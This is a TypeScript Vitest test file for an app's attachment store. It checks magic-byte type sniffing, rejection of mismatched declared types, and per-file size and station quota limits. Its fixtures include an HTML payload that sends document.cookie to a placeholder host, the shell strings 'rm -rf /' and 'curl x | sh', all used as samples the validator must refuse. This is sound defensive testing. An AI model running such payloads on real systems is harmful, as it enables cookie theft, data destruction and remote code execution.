/**
 * Attachments are what they claim to be, bounded in size and counted against the station's
 * quota: a declared image/png that is an HTML page is refused with a typed, translated error
 * and nothing is written (no blob, no row); the app's own evidence (snapshots, clips, issued
 * forms) is checked for its type too but is never refused by the quota.
 */
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import fs from 'node:fs';
import path from 'node:path';
import type { Core } from '../../src-main/app/core';
import { ATTACHMENT_MAX_UPLOAD_BYTES, sniffMime } from '../../src-main/attachments/store';
import { translateError } from '../../src-shared/i18n/errors';
import { callAs, errorCodeOf as codeOf, stationCore, tmpDir } from '../helpers';

const PNG = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==', 'base64');
const JPEG = Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), Buffer.from('JFIF ảnh')]);
const WEBP = Buffer.concat([Buffer.from('RIFF'), Buffer.from([16, 0, 0, 0]), Buffer.from('WEBPVP8 ảnh')]);
const PDF = Buffer.from('%PDF-1.7\n% biên bản phê duyệt\n');
const MP4 = Buffer.concat([Buffer.from([0, 0, 0, 0x18]), Buffer.from('ftypisom'), Buffer.alloc(12)]);
const DOCX = Buffer.concat([Buffer.from([0x50, 0x4b, 0x03, 0x04]), Buffer.alloc(26)]);
const HTML = Buffer.from('\uFEFF  <!DOCTYPE html><html><script>fetch("http://x/"+document.cookie)</script></html>');

let t: ReturnType<typeof tmpDir>;
let core: Core;
beforeEach(async () => {
  t = tmpDir('trucban-att-');
  core = await stationCore(path.join(t.dir, 'st.sqlite'));
});
afterEach(() => {
  core.close();
  t.cleanup();
});

const rows = () => core.db.prepare('SELECT COUNT(*) FROM attachments').pluck().get() as number;
const blobs = () => (fs.existsSync(core.attachments.dir) ? fs.readdirSync(core.attachments.dir).flatMap((d) => fs.readdirSync(path.join(core.attachments.dir, d))) : []);
const upload = (name: string, mime: string, data: Buffer) => callAs(core, 'officer', 'attachments:put', { name, mime, base64: data.toString('base64') });

describe('attachment type by magic bytes', () => {
  it('knows the types we store', () => {
    expect([PNG, JPEG, WEBP, PDF, MP4, DOCX, HTML].map(sniffMime)).toEqual(['image/png', 'image/jpeg', 'image/webp', 'application/pdf', 'video/mp4', 'application/zip', 'text/html']);
    expect(sniffMime(Buffer.from('#!/bin/sh\nrm -rf /'))).toBe('text/x-script');
    expect(sniffMime(Buffer.from('plain'))).toBeNull();
  });

  it('accepts real PNG, JPEG, WebP and PDF uploads', async () => {
    for (const [mime, data] of [['image/png', PNG], ['image/jpeg', JPEG], ['image/webp', WEBP], ['application/pdf', PDF]] as const) {
      const r = await upload(`tệp.${mime.split('/')[1]}`, mime, data);
      expect(r.ok, `${mime} ${JSON.stringify(r)}`).toBe(true);
    }
    expect(rows()).toBe(4);
  });

  it('refuses an HTML page declared as image/png with a translated error, writing nothing', async () => {
    const r = await upload('anh-camera.png', 'image/png', HTML);
    expect(r.ok).toBe(false);
    if (r.ok) return;
    expect(r.error).toMatchObject({ code: 'attachment_type_mismatch', params: { name: 'anh-camera.png', mime: 'image/png', actual: 'text/html' } });
    expect(translateError('vi', r.error)).toMatch(/^Nội dung tệp đính kèm «anh-camera\.png» không đúng loại tệp đã khai báo \(image\/png\); nội dung thực tế: text\/html/u);
    expect(translateError('en', r.error)).toMatch(/^The content of the attachment “anh-camera\.png” does not match its declared type/u);
    expect(rows()).toBe(0);
    expect(blobs()).toEqual([]);
  });

  it('refuses a script declared as a PDF and a JPEG declared as PNG', async () => {
    const a = await upload('bien-ban.pdf', 'application/pdf', Buffer.from('#!/bin/sh\ncurl x | sh'));
    const b = await upload('anh.png', 'image/png', JPEG);
    expect([a, b].map((r) => (r.ok ? 'ok' : r.error.code))).toEqual(['attachment_type_mismatch', 'attachment_type_mismatch']);
    expect(rows()).toBe(0);
  });

  it('checks the app’s own evidence too: an MP4 clip and a DOCX form pass, a clip that is not MP4 does not', () => {
    expect(core.attachments.put(MP4, 'camera-12.mp4', 'video/mp4', 'internal').size).toBe(MP4.length);
    expect(core.attachments.put(DOCX, 'phu-luc-II.docx', 'application/vnd.openxmlformats-officedocument.wordprocessingml.document', 'internal').size).toBe(DOCX.length);
    expect(codeOf(() => core.attachments.put(PNG, 'camera-12.mp4', 'video/mp4', 'internal'))).toBe('attachment_type_mismatch');
    expect(codeOf(() => core.attachments.put(PNG, 'x.exe', 'application/x-msdownload', 'internal'))).toBe('attachment_type_mismatch');
    expect(rows()).toBe(2);
  });
});

describe('attachment size and quota', () => {
  it('refuses an upload over the per-file maximum, writing nothing', () => {
    const big = Buffer.concat([PNG, Buffer.alloc(ATTACHMENT_MAX_UPLOAD_BYTES)]);
    expect(codeOf(() => core.attachments.put(big, 'to.png', 'image/png'))).toBe('attachment_too_large');
    expect(rows()).toBe(0);
    expect(blobs()).toEqual([]);
  });

  it('refuses an upload past the station quota with a translated error; the same content again costs nothing', async () => {
    core.attachments.quotaBytes = PDF.length + PNG.length + 10;
    expect((await upload('a.pdf', 'application/pdf', PDF)).ok).toBe(true);
    expect((await upload('b.png', 'image/png', PNG)).ok).toBe(true);
    const r = await upload('c.jpg', 'image/jpeg', JPEG);
    expect(r.ok).toBe(false);
    if (r.ok) return;
    expect(r.error.code).toBe('attachment_quota_exceeded');
    expect(translateError('vi', r.error)).toMatch(/^Đã vượt hạn mức lưu trữ tệp đính kèm của trạm/u);
    expect(rows()).toBe(2);
    expect(blobs()).toHaveLength(2);
    // already stored: no new bytes, so not refused
    expect((await upload('b-again.png', 'image/png', PNG)).ok).toBe(true);
  });

  it('never refuses the app’s own evidence by the quota, but counts it, so uploads are then refused', async () => {
    core.attachments.quotaBytes = 10;
    expect(core.attachments.put(MP4, 'camera-3.mp4', 'video/mp4', 'internal').sha256).toMatch(/^[0-9a-f]{64}$/u);
    expect(core.attachments.put(PNG, 'camera-3.png', 'image/png', 'internal').sha256).toMatch(/^[0-9a-f]{64}$/u);
    expect(core.attachments.usedBytes()).toBe(MP4.length + PNG.length);
    const r = await upload('c.pdf', 'application/pdf', PDF);
    expect(r.ok ? 'ok' : r.error.code).toBe('attachment_quota_exceeded');
  });
});
